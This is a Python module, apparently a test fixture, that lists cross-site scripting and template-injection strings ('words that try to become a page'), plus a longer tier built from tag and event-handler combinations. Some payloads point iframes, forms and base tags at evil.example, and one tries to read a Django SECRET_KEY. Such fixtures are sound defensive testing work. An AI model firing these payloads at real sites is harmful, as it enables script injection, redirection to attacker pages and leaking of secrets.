"""Words that try to become a page: forty for every day, many more for the long tier."""

from __future__ import annotations

DAILY = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</text></svg><svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '" style="position:fixed',
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html,<script>1</script>",
    "<iframe srcdoc='<script>1</script>'>",
    "<iframe src=//evil.example>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//evil.example>",
    "<button formaction=//evil.example>",
    "<style>*{display:none}</style>",
    "<math><mtext></form><form>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)>",
    "<xss-thing>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>1</script>]]>",
    "{% load static %}{{ request }}",
    "{{ 7|add:7 }}{{ settings.SECRET_KEY }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>\u2028alert(1)</script>",
]
TAGS = (
    "a", "audio", "body", "button", "details", "div", "form", "frameset", "img", "input", "keygen",
    "marquee", "object", "select", "style", "svg", "table", "textarea", "video", "xss",
)  # fmt: skip
EVENTS = (
    "onload", "onerror", "onfocus", "onclick", "ontoggle", "onanimationstart", "onpointerenter",
    "onbeforeinput", "onscroll", "onwheel", "onpageshow", "onstart", "onhashchange", "onresize",
)  # fmt: skip
LONG = [*DAILY, *(f"<{tag} {event}=alert(1)>" for tag in TAGS for event in EVENTS)]
